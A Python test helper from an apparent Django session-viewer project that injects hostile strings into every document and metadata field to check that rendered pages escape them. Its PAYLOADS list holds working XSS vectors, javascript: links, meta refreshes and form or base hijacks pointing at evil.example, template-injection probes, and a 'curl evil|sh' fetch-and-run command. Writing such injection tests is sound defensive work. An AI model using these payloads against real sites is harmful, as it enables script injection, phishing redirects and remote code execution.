"""Hostile text for every string field of a content document and of a session's metadata.

Shared by tests/frontend/test_injection.py (server-side HTML) and the browser test
tests/frontend/browser/test_injection.py. The document fields come from the format module's
declaration (``sessionledger.core.formats.document.string_fields``), the metadata fields from the
Session model, so a new field is attacked without editing the tests.

Every variant comes with a *twin*: the same document with each payload's non-space characters
replaced by ``x``. Payload and twin have the same lengths and lines, so the page must have the
same structure for both; any element or attribute the payload adds is an injection.
"""

from __future__ import annotations

import copy
import json
import re
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from django.db import models

from projects.scoping import project_scope
from sessionledger.core.formats.document import string_fields
from sessions_app import blobs
from sessions_app.models import Session
from tests.client.sample_transcripts import every_line_type
from tests.client.transcript_builder import TranscriptBuilder

META_REFRESH = '2026-01-01T"><meta http-equiv="refresh" content="0;url=https://evil.example/"><x y="Z'
COPY_ATTRIBUTE = 'x" id="p" data-copy="curl evil|sh"'

PAYLOADS = [
    META_REFRESH,
    COPY_ATTRIBUTE,
    "x' onmouseover='alert(1)' autofocus onfocus='alert(2)' y='",
    "</textarea></title></style></script><script>alert('script')</script>",
    '<img src=x onerror="alert(\'img\')"><svg onload="alert(\'svg\')"><a xlink:href="javascript:alert(1)">s</a></svg>',
    'javascript:alert(1)// [link](javascript:alert(2)) ![i](javascript:alert(3)) <a href="javascript:alert(4)">a</a>',
    '<style>*{display:none}</style><div style="position:fixed;inset:0">css</div>'
    "<link rel=stylesheet href=//evil.example/c.css>",
    '<base href="https://evil.example/"><form action="https://evil.example/">'
    '<button formaction="javascript:alert(1)">go</button></form><iframe srcdoc="<script>alert(1)</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><x data-copy="curl evil|sh" id="more">',
    "\u202eevil.exe\u202c \u2066isolated\u2069 \u200fRTL\u200e mark",
    "{{ 7|add:7 }}{% now 'Y' %}${7*7}<%= 7 %>#{7}",
    "&lt;b&gt;&amp;#34; &quot;&#34;&#x27; --><!-- <![CDATA[x]]> &#0; &#x110000;",
    "line\r\nbreaks\u2028and\u2029more\x0b\x0c\u00a0\x00nul",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== vbscript:msgbox(1) file:///etc/passwd",
]
JOINED = " ".join(PAYLOADS)


def twin(text: str) -> str:
    """``text`` with every non-space character an ``x``: same length and lines, nothing to inject."""
    return re.sub(r"\S", "x", text)


def template_transcript() -> tuple[bytes, dict[str, bytes]]:
    """Every line type, plus each tool layout the page knows (and one it does not)."""
    raw, subagents = every_line_type()
    b = TranscriptBuilder("5e55f00d-0000-4000-8000-00000000beef", start="2026-02-10T22:00:00Z")
    b.prompt("Use every tool")
    todos = [{"content": "write tests", "status": "in_progress", "activeForm": "Writing tests"}]
    b.new_response().tool_call("TodoWrite", {"todos": todos}, result="ok")
    b.new_response().tool_call("MultiEdit", {"file_path": "/w/a.py", "edits": [{"old_string": "a", "new_string": "b"}]})
    b.new_response().tool_call("Bash", {"command": "ls", "description": "List"}, result="a.py")
    b.new_response().tool_call("mcp__srv__do", {"query": "x", "nested": {"list": ["y", {"z": "w"}]}}, result="done")
    b.new_response().tool_call("Glob", {"pattern": "**/*.py"}, result="a.py")
    b.new_response().assistant_text("**Done**: see [the docs](https://example.com/docs).\n\n```python\nx = 1\n```")
    return raw + b.turn_end().build(), subagents


# --- content document variants -------------------------------------------------------------------


@dataclass(frozen=True)
class Variant:
    field: str  # e.g. "messages[].tool.input.*"
    payload: dict[str, Any]
    twin: dict[str, Any]


def _label(path: tuple[str, ...]) -> str:
    return ".".join(path).replace(".[]", "[]")


def document_variants(document: dict[str, Any]) -> Iterator[Variant]:
    """One variant per declared string field; the document's own header, agent and stats fields
    (not shown by any page) together in one. A field holding any JSON is attacked twice: in its
    values, then (when it holds objects) in its keys."""
    fields = string_fields()
    header = [path for path in fields if path[0] not in ("messages", "turns")]
    yield Variant(
        "header, agent and stats", _inject_all(document, header, PAYLOADS), _inject_all(document, header, _twins())
    )
    for path in fields:
        if path in header:
            continue
        modes = ("values", "keys") if path[-1] == "*" and _holds_objects(document, path) else ("values",)
        for mode in modes:
            label = _label(path) + ("" if mode == "values" else " keys")
            yield Variant(label, _inject(document, path, mode, PAYLOADS), _inject(document, path, mode, _twins()))


def _inject_all(document: dict[str, Any], paths: list[tuple[str, ...]], texts: list[str]) -> dict[str, Any]:
    """Every header-level field at once, each holding the whole corpus (no page shows them)."""
    doc = copy.deepcopy(document)
    for path in paths:
        doc = _inject(doc, path, "values", texts)
    return doc


def _holds_objects(document: dict[str, Any], path: tuple[str, ...]) -> bool:
    """Whether the JSON at ``path`` (any message or turn) contains an object, whose keys can be attacked."""
    items = document.get(path[0]) if path[1:2] == ("[]",) else [document]
    rest = path[2:-1] if path[1:2] == ("[]",) else path[:-1]
    for item in items or []:
        value = item
        for step in rest:
            value = value.get(step) if isinstance(value, dict) else None
        if isinstance(value, dict) or (isinstance(value, list) and any(isinstance(v, (dict, list)) for v in value)):
            return True
    return False


def _twins() -> list[str]:
    return [twin(p) for p in PAYLOADS]


def _inject(document: dict[str, Any], path: tuple[str, ...], mode: str, texts: list[str]) -> dict[str, Any]:
    """Each text on its own in the field at ``path``: one copy of the carrying messages per text.

    Not one joined string: a renderer that parses a value (a timestamp ends in "Z", a link starts
    with a scheme) only meets the attack when the value is exactly the payload.
    """
    doc = copy.deepcopy(document)
    if path[0] == "messages":
        doc["messages"] = _messages(document["messages"], path[2:], mode, texts)
    elif path[0] == "turns":
        doc["turns"] = [_set(copy.deepcopy(turn), path[2:], mode, text) for text in texts for turn in document["turns"]]
    else:
        _set(doc, path, mode, " ".join(texts))
    return doc


def _shape(message: dict[str, Any], path: tuple[str, ...]) -> tuple[Any, ...]:
    """How a message renders, as far as the field at ``path`` can tell (tool layouts only matter to tool fields)."""
    tool = message.get("tool") if isinstance(message.get("tool"), dict) else {}
    layout = tool.get("name") if path[:2] == ("tool", "input") or path == ("content",) else None
    flags = ("sidechain", "meta", "queued", "compact_summary", "api_error", "command", "bash")
    return (message["role"], message["kind"], message.get("subtype"), layout, *map(message.get, flags))


def _carriers(messages: list[dict[str, Any]], path: tuple[str, ...]) -> list[dict[str, Any]]:
    """One message of each shape that carries the field (of all messages when none does)."""
    shapes: dict[tuple[Any, ...], dict[str, Any]] = {}
    for message in [m for m in messages if _has(m, path)] or messages:
        shapes.setdefault(_shape(message, path), message)
    return list(shapes.values())


def _messages(messages: list[dict[str, Any]], path: tuple[str, ...], mode: str, texts: list[str]) -> list[dict]:
    out = []
    for n, text in enumerate(texts):
        for message in _carriers(messages, path):
            made = _set(copy.deepcopy(message), path, mode, text)
            _distinct_tool_ids(made, n, path)
            made["index"] = len(out)
            out.append(made)
    return out


def _distinct_tool_ids(message: dict[str, Any], n: int, path: tuple[str, ...]) -> None:
    """Each copy pairs its own call and result (unless the id itself is the field under attack)."""
    tool = message.get("tool")
    if isinstance(tool, dict) and isinstance(tool.get("id"), str) and path != ("tool", "id"):
        tool["id"] = f"{tool['id']}-{n}"
    if isinstance(message.get("parent_tool_id"), str) and path != ("parent_tool_id",):
        message["parent_tool_id"] = f"{message['parent_tool_id']}-{n}"


def _has(node: Any, path: tuple[str, ...]) -> bool:
    for step in path:
        if step == "*":
            return True
        if not isinstance(node, dict) or step not in node:
            return False
        node = node[step]
    return True


def _walk(node: dict[str, Any], steps: list[str] | tuple[str, ...], *, create: bool) -> dict[str, Any] | None:
    for step in steps:
        child = node.get(step)
        if not isinstance(child, dict):
            if not create:
                return None
            child = node[step] = {}
        node = child
    return node


def _set(node: dict[str, Any], path: tuple[str, ...], mode: str, text: str) -> dict[str, Any]:
    """Set the field at ``path`` to ``text``; a path ending in "*" changes every scalar (or key) inside."""
    if path[-1] == "*":
        *parents, key = path[:-1]
        target = _walk(node, parents, create=False)
        if target is not None:
            target[key] = _everywhere(target.get(key), mode, text)
    else:
        *parents, key = path
        target = _walk(node, parents, create=True)
        assert target is not None
        target[key] = text
    return node


def _everywhere(value: Any, mode: str, text: str) -> Any:
    """Every scalar in ``value`` (values mode) or every key of its objects (keys mode) becomes ``text``."""
    if isinstance(value, dict):
        if mode == "keys":
            return {f"{text}{n}": _everywhere(v, mode, text) for n, v in enumerate(value.values())}
        return {k: _everywhere(v, mode, text) for k, v in value.items()}
    if isinstance(value, list):
        return [_everywhere(v, mode, text) for v in value]
    return text if mode == "values" else value


# --- sessions -------------------------------------------------------------------------------------


def stored_copy(session: Session, document: dict[str, Any] | None = None, **fields: Any) -> Session:
    """A new session row like ``session`` (its own content blob, ``fields`` changed), no validation.

    Stands for what an older parser or a looser ingest may have stored: pages must survive it.
    """
    with project_scope(session.project):
        clone = Session.objects.get(pk=session.pk)
        original = blobs.load_json_gz(clone.content_storage_key)
        clone.pk = uuid.uuid4()
        clone.commit_hash, clone.idempotency_key, clone.previous = uuid.uuid4().hex + "0" * 8, None, None
        clone.content_storage_key = blobs.content_key(clone.project_id, clone.pk)
        blobs.put(clone.content_storage_key, blobs.gzip_json(original if document is None else document))
        for name, value in fields.items():
            setattr(clone, name, value)
        clone.save(force_insert=True)
        return Session.objects.select_related("project", "author").get(pk=clone.pk)


NOT_SHOWN = {"raw_storage_key", "content_storage_key", "idempotency_key", "subagents", "digest"}
SHOWN_WHEN = {"error": {"status": "failed"}}  # the error is shown on a failed session's page


def metadata_fields() -> list[str]:
    """Every text or JSON column of a session a page may show."""
    kinds = (models.CharField, models.TextField, models.JSONField)
    return [f.name for f in Session._meta.concrete_fields if isinstance(f, kinds) and f.name not in NOT_SHOWN]


def metadata_value(name: str, text: str) -> Any:
    """``text`` shaped for column ``name`` (cut to its length; JSON columns hold it as keys and values).

    Without NULs: PostgreSQL stores none, so no page can meet one in a column.
    """
    field, text = Session._meta.get_field(name), text.replace("\x00", "")
    if isinstance(field, models.JSONField):
        return {"files": text, "insertions": text, "deletions": text, text: 1} if name != "files_touched" else [text]
    return text[: field.max_length] if field.max_length else text


def metadata_variants(name: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """(payload fields, twin fields) for one metadata column."""
    extra = SHOWN_WHEN.get(name, {})
    return {name: metadata_value(name, JOINED), **extra}, {name: metadata_value(name, twin(JOINED)), **extra}


def dumps(document: dict[str, Any]) -> str:
    return json.dumps(document, ensure_ascii=False)
